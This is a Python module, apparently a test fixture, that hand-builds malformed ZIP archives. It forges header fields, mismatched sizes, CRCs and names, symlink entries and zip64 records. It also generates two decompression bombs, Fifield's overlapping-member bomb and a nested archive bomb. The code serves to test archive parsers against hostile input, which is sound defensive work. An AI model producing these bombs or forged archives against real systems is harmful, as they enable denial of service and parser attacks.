"""Archives that are made to do harm, written by hand, as no library would write them."""

from __future__ import annotations

import struct
import zlib
from dataclasses import dataclass

UTF8, DESCRIPTOR = 0x800, 0x8
_LOCAL = struct.Struct("<4s5H3L2H")
_CENTRAL = struct.Struct("<4s4B4H3L5H2L")
_END = struct.Struct("<4s4H2LH")
LINK, FILE = 0o120777, 0o100644
_SMALL = 0xFFFFFFFF


def deflate(content: bytes) -> bytes:
    squeezed = zlib.compressobj(9, wbits=-15)
    return squeezed.compress(content) + squeezed.flush()


@dataclass
class Entry:
    """A member; what is None is stated truly.

    A name given as bytes stands without the flag that says UTF-8.
    """

    name: str | bytes
    content: bytes = b"content"
    method: int = 0
    size: int | None = None
    compressed: int | None = None
    crc: int | None = None
    offset: int | None = None
    mode: int = FILE
    flags: int = 0
    extra: bytes = b""
    local_name: bytes | None = None
    local_method: int | None = None
    local_sizes: tuple[int, int, int] | None = None  # checksum, compressed, size
    local_lengths: tuple[int, int] | None = None
    signature: bytes = b"PK\x03\x04"
    descriptor: bytes = b""

    @property
    def raw(self) -> bytes:
        return self.name if isinstance(self.name, bytes) else self.name.encode()

    @property
    def data(self) -> bytes:
        return deflate(self.content) if self.method == 8 else self.content

    @property
    def all_flags(self) -> int:
        return self.flags | (0 if isinstance(self.name, bytes) else UTF8)

    def local(self) -> bytes:
        name = self.raw if self.local_name is None else self.local_name
        sizes = self.local_sizes or (zlib.crc32(self.content), len(self.data), len(self.content))
        lengths = self.local_lengths or (len(name), 0)
        method = self.method if self.local_method is None else self.local_method
        return _LOCAL.pack(
            self.signature, 20, self.all_flags, method, 0, 0x5821, *sizes, *lengths
        ) + name  # fmt: skip

    def central(self, offset: int) -> bytes:
        size = len(self.content) if self.size is None else self.size
        compressed = len(self.data) if self.compressed is None else self.compressed
        offset = offset if self.offset is None else self.offset
        big = [value for value in (size, compressed, offset) if value >= _SMALL]
        extra = struct.pack(f"<2H{len(big)}Q", 1, 8 * len(big), *big) if big else b""
        extra += self.extra
        crc = zlib.crc32(self.content) if self.crc is None else self.crc
        return _CENTRAL.pack(
            b"PK\x01\x02", 45, 3, 20, 0, self.all_flags, self.method, 0, 0x5821, crc,
            min(compressed, _SMALL), min(size, _SMALL), len(self.raw), len(extra), 0, 0, 0,
            self.mode << 16, min(offset, _SMALL),
        ) + self.raw + extra  # fmt: skip


def end(count: int, size: int, offset: int, comment: bytes = b"", length: int | None = None):
    length = len(comment) if length is None else length
    return _END.pack(b"PK\x05\x06", 0, 0, count, count, size, offset, length) + comment


def end64(count: int, size: int, offset: int, position: int) -> bytes:
    """Return the zip64 record and its locator, which says that the record stands at a position."""
    return struct.pack(
        "<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, size, offset
    ) + struct.pack("<4sLQL", b"PK\x06\x07", 0, position, 1)


def build(*entries: Entry | str | bytes, count: int | None = None, comment: bytes = b"") -> bytes:
    """Return an archive of entries; a name alone stands for one with a little content."""
    body, directory = bytearray(), bytearray()
    members = [one if isinstance(one, Entry) else Entry(one) for one in entries]
    for member in members:
        directory += member.central(len(body))
        body += member.local() + member.data + member.descriptor
    count = len(members) if count is None else count
    return bytes(body + directory) + end(count % 0x10000, len(directory), len(body), comment)


def quoted_bomb(files: int = 30, kernel: int = 1_000_000) -> bytes:
    """Return David Fifield's bomb: each member quotes the header of the next and goes on in it.

    All members part one kernel, without any two beginning at the same place.
    """
    content, data = bytes(kernel), deflate(bytes(kernel))
    parts: list[Entry] = []
    for n in reversed(range(files)):
        if parts:
            header = parts[-1].local()
            # An uncompressed block, not the last one, that holds the next member's header.
            block = struct.pack("<BHH", 0, len(header), len(header) ^ 0xFFFF)
            content, data = header + content, block + header + data
        sizes = (zlib.crc32(content), len(data), len(content))
        parts.append(
            Entry(
                f"{n:03}", method=8, crc=sizes[0], compressed=sizes[1], size=sizes[2],
                local_sizes=sizes,
            )
        )  # fmt: skip
    parts.reverse()
    body = parts[0].local() + data
    directory, offset = bytearray(), 0
    for part in parts:
        directory += part.central(offset)
        offset += len(part.local()) + 5  # into the block of the member itself
    return body + bytes(directory) + end(files, len(directory), len(body))


def nested_bomb(depth: int = 4) -> bytes:
    """Return an archive in an archive in an archive, with zeros at the bottom."""
    data = build(Entry("zeros", bytes(1_000_000), 8))
    for _ in range(depth):
        data = build(Entry("inner.zip", data, 8))
    return data
